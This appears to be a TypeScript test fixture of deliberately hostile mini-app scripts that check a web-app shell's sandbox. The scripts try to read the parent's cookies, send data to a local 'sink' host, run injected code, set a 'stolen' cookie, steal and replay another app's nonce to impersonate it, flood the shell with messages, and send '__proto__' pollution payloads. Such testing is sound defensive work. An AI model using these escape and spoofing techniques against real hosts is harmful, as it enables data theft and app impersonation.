// Scripts of apps that try to get out. Each runs in the browser as its own text, so it may use nothing from around it.

/** Asks hosts it declared and hosts it did not, by fetch and as pictures, and writes into the page what came. */
export async function reachOut(): Promise<void> {
  const results: Record<string, string> = {};
  const hosts = [
    'api.example.org',
    'a.tiles.example.org',
    'tiles.example.org',
    'other.example.org',
    'api.example.org:444',
  ];
  for (const host of hosts) {
    results[`fetch ${host}`] = await fetch(`https://${host}/data`).then(
      (response) => response.text(),
      () => 'refused',
    );
    results[`picture ${host}`] = await new Promise((resolve) => {
      const picture = new Image();
      picture.onload = () => resolve('came');
      picture.onerror = () => resolve('refused');
      picture.src = `https://${host}/picture.svg`;
    });
    results[`script ${host}`] = await new Promise((resolve) => {
      const script = document.createElement('script');
      script.onload = () => resolve('came');
      script.onerror = () => resolve('refused');
      try {
        script.src = `https://${host}/script.js`;
        document.body.append(script);
      } catch {
        resolve('refused');
      }
    });
  }
  results['plain http'] = await fetch('http://api.example.org/data').then(
    () => 'came',
    () => 'refused',
  );
  document.body.append(Object.assign(document.createElement('pre'), { textContent: JSON.stringify(results) }));
}

/** Tries every way out and writes what happened, name by name, into the page. `ports` are those of a listening sink. */
export async function breakOut(): Promise<void> {
  const fields = new URLSearchParams(location.hash.slice(1));
  const [sinkPort, stunPort, webPort] = (fields.get('tgWebAppStartParam') ?? '').split('-');
  const sink = `http://127.0.0.1:${sinkPort}`;
  const web = `http://localhost:${webPort}`;
  const results: Record<string, string> = {};
  const said = (value: unknown): string => {
    if (value instanceof Error) return value.name;
    return typeof value === 'object' && value !== null ? 'object' : String(value);
  };
  const attempt = async (name: string, run: () => unknown): Promise<void> => {
    try {
      const pending = new Promise((resolve) => setTimeout(resolve, 1500, 'nothing happened'));
      results[name] = `got ${said(await Promise.race([run(), pending]))}`;
    } catch (error) {
      results[name] = said(error);
    }
  };
  const add = (tag: string, attributes: Record<string, string>): Element => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    document.body.append(element);
    return element;
  };
  const top = window.top!;

  await attempt('61 top.document', () => top.document.cookie);
  await attempt('61 top.location', () => top.location.href);
  await attempt('61 parent.document', () => window.parent.document?.cookie);
  await attempt('84 frameElement', () => window.frameElement);
  await attempt('62 top.location =', () => (top.location.href = sink + '/top'));
  await attempt('62 target=_top', () => (add('a', { href: sink + '/top', target: '_top' }) as HTMLElement).click());
  await attempt('63 window.open', () => window.open(sink + '/open'));
  await attempt('63 window.open noopener', () => window.open(sink + '/open', '', 'noopener'));
  await attempt('63 target=_blank', () =>
    (add('a', { href: sink + '/blank', target: '_blank' }) as HTMLElement).click(),
  );
  await attempt('64 download', () => (add('a', { href: '/probe.js', download: 'x.js' }) as HTMLElement).click());
  await attempt('65 alert', () => window.alert('x'));
  await attempt('65 prompt', () => window.prompt('x'));
  await attempt('68 fetch', () => fetch(sink + '/fetch', { mode: 'no-cors' }));
  await attempt('68 fetch of the API', () =>
    fetch(web + '/api/identity.me', { method: 'POST', credentials: 'include' }),
  );
  await attempt('68 XMLHttpRequest', () => {
    const request = new XMLHttpRequest();
    request.open('GET', sink + '/xhr', false);
    request.send();
  });
  await attempt('68 WebSocket', async () => {
    const socket = new WebSocket(web.replace('http', 'ws') + '/ws');
    return new Promise((resolve, reject) => {
      socket.onopen = resolve;
      socket.onerror = () => reject(new TypeError('refused'));
    });
  });
  await attempt('68 EventSource', () => {
    const source = new EventSource(sink + '/events');
    return new Promise((resolve, reject) => {
      source.onopen = resolve;
      source.onerror = () => reject(new TypeError('refused'));
    });
  });
  navigator.sendBeacon(sink + '/beacon', 'x');
  const loads: [string, Record<string, string>][] = [
    ['img', { src: sink + '/img' }],
    ['link', { rel: 'stylesheet', href: sink + '/css' }],
    ['link', { rel: 'prefetch', href: sink + '/prefetch' }],
    ['link', { rel: 'preload', as: 'font', href: sink + '/font' }],
    ['video', { src: sink + '/media' }],
    ['iframe', { src: sink + '/iframe' }],
    ['iframe', { src: web + '/' }],
    ['iframe', { srcdoc: `<img src="${sink}/srcdoc">` }],
  ];
  for (const [tag, attributes] of loads) add(tag, attributes);
  await attempt('72 object', () => add('object', { data: sink + '/object' }));
  await attempt('72 embed', () => add('embed', { src: sink + '/embed' }));
  await attempt('70 STUN', async () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${stunPort}` }] });
    peer.createDataChannel('x');
    await peer.setLocalDescription();
  });
  const ran = (name: string, run: () => unknown): Promise<void> =>
    attempt(name, async () => {
      await run();
      await new Promise((resolve) => setTimeout(resolve, 200));
      if ((window as { escaped?: unknown }).escaped === undefined) throw new Error('not run');
    });
  await ran('73 eval', () => (0, eval)('window.escaped = 1'));
  await ran('73 Function', () => (Function as unknown as (code: string) => () => void)('window.escaped = 1')());
  await ran('73 setTimeout of text', () => (setTimeout as (code: string) => void)('window.escaped = 1'));
  await ran('73 javascript: address', () => (add('a', { href: 'javascript:window.escaped=1' }) as HTMLElement).click());
  await ran(
    '73 data: script',
    () => ((add('script', {}) as HTMLScriptElement).src = 'data:text/javascript,window.escaped=1'),
  );
  await ran('73 inline script', () => {
    const script = document.createElement('script');
    script.append('window.escaped = 1');
    document.body.append(script);
  });
  await ran(
    '73 inline handler',
    () =>
      (document.body.appendChild(document.createElement('div')).innerHTML = '<img src=x onerror="window.escaped=1">'),
  );
  await ran('73 foreign script', () => ((add('script', {}) as HTMLScriptElement).src = sink + '/script.js'));
  await attempt('74 worker', async () => {
    const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
    return new Promise((resolve, reject) => {
      worker.onmessage = resolve;
      worker.onerror = () => reject(new TypeError('refused'));
    });
  });
  await attempt('74 service worker', () => navigator.serviceWorker.register('/probe.js'));
  document.cookie = 'stolen=1; domain=localhost';
  document.cookie = `stolen=1; domain=localhost; path=/`;
  await attempt('82 clipboard', () => navigator.clipboard.readText());
  await attempt(
    '82 geolocation',
    () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
  );
  const done = document.createElement('pre');
  done.textContent = JSON.stringify(results);
  document.body.replaceChildren(done);
}

/** Leaves its page for the sink, with data in the address: by a form, by itself, and by a refresh. */
export function leave(): void {
  const sink = `http://127.0.0.1:${new URLSearchParams(location.hash.slice(1)).get('tgWebAppStartParam')}`;
  const way = location.pathname.slice(1).replace('.html', '');
  if (way === 'refresh') {
    const meta = document.createElement('meta');
    meta.httpEquiv = 'refresh';
    meta.content = `0;url=${sink}/refresh?data`;
    document.head.append(meta);
  } else if (way === 'form') {
    const form = document.createElement('form');
    form.action = `${sink}/form?data`;
    form.method = 'post';
    document.body.append(form);
    form.submit();
  } else {
    location.href = `${sink}/self?data`;
  }
}

/** Goes to the host of another app and takes its own nonce along. */
export function hop(): void {
  const nonce = new URLSearchParams(location.hash.slice(1)).get('vecheNonce');
  location.href = `${location.protocol}//${location.host.replace('hopper', 'spoofer')}/#stolenNonce=${nonce}`;
}

/** Speaks as if it were the app in the panel, with the nonce of that app. */
export function spoof(): void {
  const nonce = new URLSearchParams(location.hash.slice(1)).get('stolenNonce');
  let heard = 0;
  window.addEventListener('message', () => (document.body.textContent = `heard ${(heard += 1)}`));
  const top = window.top!;
  for (const target of [window.parent, top]) {
    target.postMessage(JSON.stringify({ veche: 'hello', version: 1, nonce }), '*');
    target.postMessage(JSON.stringify({ eventType: 'web_app_close' }), '*');
    target.postMessage(
      JSON.stringify({ eventType: 'web_app_setup_main_button', eventData: { is_visible: true, text: 'Обман' } }),
      '*',
    );
  }
  document.body.textContent = 'spoke';
}

/** Greets the shell, then loads another page of its own, and greets again with the nonce it kept. */
export function replay(): void {
  const kept = sessionStorage.getItem('nonce');
  const nonce = kept ?? new URLSearchParams(location.hash.slice(1)).get('vecheNonce');
  const show = (text: string): void => void (document.body.textContent = text);
  window.addEventListener('message', (event) => {
    if (event.ports.length === 0) return;
    if (kept !== null) return show('a second port');
    sessionStorage.setItem('nonce', nonce ?? '');
    location.reload();
  });
  window.parent.postMessage(JSON.stringify({ veche: 'hello', version: 1, nonce }), '*');
  if (kept !== null) setTimeout(() => show('no answer'), 1000);
}

/** Says more than anyone can hear. */
export function flood(): void {
  window.parent.postMessage(JSON.stringify({ eventType: 'web_app_ready' }), '*');
  for (let count = 0; count < 100_000; count++) {
    window.parent.postMessage(JSON.stringify({ eventType: 'web_app_request_theme', count }), '*');
  }
}

/** Sends what is no message of ours, and then one that is. */
export function babble(): void {
  const shell = window.parent;
  const evil: unknown[] = [
    null,
    7,
    [],
    { eventType: 'web_app_close' },
    { veche: 'hello', version: 1 },
    '{"eventType":"__proto__","eventData":{"isAdmin":true}}',
    '{"__proto__":{"isAdmin":true},"eventType":"constructor"}',
    '{"eventType":{"toString":1}}',
    JSON.stringify({
      eventType: 'web_app_setup_main_button',
      eventData: { text: 'x'.repeat(70_000), is_visible: true },
    }),
    new ArrayBuffer(1 << 20),
    Array.from({ length: 100_000 }, (_value, index) => ({ index })),
  ];
  for (const message of evil) shell.postMessage(message, '*');
  const { port1 } = new MessageChannel();
  shell.postMessage({ veche: 'hello', port1 }, '*', [port1]);
  shell.postMessage(new Uint8Array(1 << 20), { targetOrigin: '*' });
  const text = JSON.stringify({ eventType: 'web_app_setup_main_button', eventData: { is_visible: true, text: 'Жив' } });
  shell.postMessage(text, '*');
}
